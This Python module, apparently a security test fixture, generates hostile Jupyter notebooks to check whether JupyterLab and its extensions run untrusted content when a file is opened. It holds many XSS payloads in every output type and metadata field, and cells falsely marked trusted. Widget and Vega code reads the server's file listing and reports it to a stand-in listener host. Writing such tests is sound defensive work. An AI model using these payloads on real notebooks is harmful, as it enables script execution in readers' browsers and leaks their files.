"""Notebooks and files of a stranger that try to do something as soon as they are opened."""

from __future__ import annotations

from importlib.metadata import version
from typing import Any

import nbformat

LISTENER = "https://listener.example"
"""Whatever runs asks this address; the browser's page notes it in ``outside``."""


def tells(what: str) -> str:
    """JavaScript that tells the listener."""
    return f"fetch('{LISTENER}/{what}').catch(() => 0);"


MODULE = f"""
{tells("module")}
const ask = left => fetch('/api/contents', {{ signal: AbortSignal.timeout(5000) }}).then(
  answer => {{ fetch('{LISTENER}/session-' + answer.status).catch(() => 0); }},
  () => {{ {tells("refused")} if (left) setTimeout(ask, 1000, left - 1); }});
ask(9);
export default {{
  initialize() {{ {tells("initialize")} }},
  render({{ el }}) {{ el.textContent = 'I am drawn.'; {tells("render")} }},
}};
"""


def widget_state(script: str = MODULE) -> dict[str, Any]:
    """What ipywidgets saves of one widget that carries its own script."""
    major, minor = version("anywidget").split(".")[:2]
    own = {
        "_model_module": "anywidget",
        "_model_module_version": f"~{major}.{minor}.*",
        "_model_name": "AnyModel",
        "_view_module": "anywidget",
        "_view_module_version": f"~{major}.{minor}.*",
        "_view_name": "AnyView",
        "_anywidget_id": "stranger.Widget",
        "_esm": script,
        "layout": "IPY_MODEL_m2",
    }
    layout = {
        "_model_module": "@jupyter-widgets/base",
        "_model_module_version": "2.0.0",
        "_model_name": "LayoutModel",
    }
    state = {
        "m1": {
            "model_module": "anywidget",
            "model_module_version": own["_model_module_version"],
            "model_name": "AnyModel",
            "state": own,
        },
        "m2": {
            "model_module": "@jupyter-widgets/base",
            "model_module_version": "2.0.0",
            "model_name": "LayoutModel",
            "state": layout,
        },
    }
    saved = {"version_major": 2, "version_minor": 0, "state": state}
    return {"application/vnd.jupyter.widget-state+json": saved}


def with_widget() -> Any:
    """A notebook with a saved widget, its picture, and words that show that it is open."""
    picture = (
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5E"
        "rkJggg=="
    )
    view = {"model_id": "m1", "version_major": 2, "version_minor": 0}
    output = nbformat.v4.new_output(
        "display_data",
        {
            "application/vnd.jupyter.widget-view+json": view,
            "image/png": picture,
            "text/plain": "a picture",
        },
    )
    cell = nbformat.v4.new_code_cell("1 + 1", execution_count=1, outputs=[output], id="one")
    cell.metadata["trusted"] = True
    words = nbformat.v4.new_markdown_cell("# It is open", id="words")
    kernel = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    metadata = {"kernelspec": kernel, "widgets": widget_state()}
    return nbformat.v4.new_notebook(cells=[words, cell], metadata=metadata)


def harm(what: str) -> str:
    """HTML that tells the listener in many ways, if any script in it runs."""
    script = tells(what)
    return (
        f'<script>{script}</script><img src=x onerror="{script}"><svg onload="{script}"></svg>'
        f"<iframe srcdoc='<script>{script.replace(chr(39), '&quot;')}</script>'></iframe>"
        f'<details open ontoggle="{script}">x</details><object data="{LISTENER}/{what}"></object>'
        f"<style>@import '{LISTENER}/{what}';</style><link rel=stylesheet href={LISTENER}/{what}>"
        f'<input autofocus onfocus="{script}"><embed src="{LISTENER}/{what}">'
        f'<meta http-equiv=refresh content="0; url={LISTENER}/{what}"><base href="{LISTENER}/">'
    )


def vega(kind: str) -> dict[str, Any]:
    """A drawing that asks the server for the reader's files and tells the listener."""
    files = {"url": "/api/contents", "format": {"type": "json", "property": "content"}}
    if kind == "vegalite":
        return {
            "data": files,
            "transform": [{"calculate": f"'{LISTENER}/vegalite-' + datum.name", "as": "url"}],
            "mark": {"type": "image", "width": 9, "height": 9},
            "encoding": {"url": {"field": "url"}, "x": {"field": "size", "type": "nominal"}},
        }
    size = {"value": 9}
    picture = {"url": {"signal": f"'{LISTENER}/vega-' + datum.name"}, "width": size, "height": size}
    mark = {"type": "image", "from": {"data": "files"}, "encode": {"enter": picture}}
    return {"width": 99, "height": 99, "data": [{"name": "files", **files}], "marks": [mark]}


def svg(what: str) -> str:
    """A drawing with two scripts."""
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{tells(what)}" width="9" height="9">'
        f"<script>{tells(what)}</script></svg>"
    )


def outputs() -> dict[str, Any]:
    """One content for each kind of output that JupyterLab, or a common extension, shows."""
    diagram = f'graph TD\n A["{harm("mermaid").replace(chr(34), chr(39))}"]\n'
    diagram += f' click A "javascript:{tells("mermaid")}"'
    words = f"{harm('markdown')}\n\n[x](javascript:{tells('markdown')})\n\n"
    words += f"```mermaid\n{diagram}\n```\n\n"
    words += f"$\\style{{background:url({LISTENER}/tex)}}{{x}}$ $\\href{{javascript:1}}{{x}}$"
    return {
        "text/html": harm("html"),
        "text/markdown": words,
        "text/latex": f"$\\href{{javascript:{tells('latex')}}}{{x}}$",
        "text/vnd.mermaid": diagram,
        "image/svg+xml": svg("svg"),
        "application/javascript": tells("javascript"),
        "text/javascript": tells("javascript"),
        "application/json": {"html": harm("json")},
        "application/geo+json": {"type": "FeatureCollection", "features": []},
        "application/pdf": "JVBERi0xLjQK",
        "application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2},
        "application/vnd.jupyter.error": {"message": harm("error")},
        "application/vnd.jupyter.stdout": harm("stdout"),
        "application/vnd.bokehjs_exec.v0+json": tells("bokeh"),
        "application/vnd.vega.v5+json": vega("vega"),
        "application/vnd.vegalite.v4+json": vega("vegalite"),
        "application/vnd.vegalite.v5+json": vega("vegalite"),
    }


def with_everything() -> dict[str, Any]:
    """A notebook, as JSON, with every kind of content in every place that shows something."""
    kernel = {"name": "python3", "display_name": harm("kernel"), "language": "python"}
    language = {"name": "python", "mimetype": "text/x-python", "codemirror_mode": harm("mode")}
    metadata = {
        "kernelspec": kernel,
        "language_info": language,
        "widgets": widget_state(),
        "title": harm("title"),
        "toc": {"title_cell": harm("toc")},
        "authors": [{"name": harm("author")}],
        "trusted": True,
        "signature": "sha256:0",
    }
    cells = [markdown("# It is open"), markdown(outputs()["text/markdown"])]
    cells.append(markdown("![a](attachment:a.svg) ![b](attachment:b.html)"))
    cells[-1]["attachments"] = {
        "a.svg": {"image/svg+xml": svg("attachment")},
        "b.html": {"text/html": harm("attachment")},
    }
    for kind, content in outputs().items():
        for marks in ({}, {"isolated": True}, {kind: {"isolated": True}}):
            shown = {"data": {kind: content}, "metadata": marks}
            cells.append(code({"output_type": "display_data", **shown}))
        result = {"output_type": "execute_result", "execution_count": 1, **shown}
        cells.append(code({**result, "data": {kind: content, "text/plain": "plain"}}))
    broken = {"ename": harm("ename"), "evalue": harm("evalue"), "traceback": [harm("traceback")]}
    cells.append(code({"output_type": "error", **broken}))
    cells.append(code({"output_type": "stream", "name": "stdout", "text": harm("stream")}))
    for kind in ("text/html", "application/javascript"):
        raw = markdown(harm("raw"))
        cells.append({**raw, "cell_type": "raw"})
        cells[-1]["metadata"] = {"trusted": True, "raw_mimetype": kind, "format": kind}
    return {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 4}


def markdown(text: str) -> dict[str, Any]:
    """A cell that says that it is trusted."""
    return {"cell_type": "markdown", "source": text, "metadata": {"trusted": True}}


def code(output: dict[str, Any]) -> dict[str, Any]:
    """A cell that says that it is trusted, with this output."""
    return {
        "cell_type": "code",
        "source": "",
        "execution_count": 1,
        "metadata": {"trusted": True},
        "outputs": [output],
    }
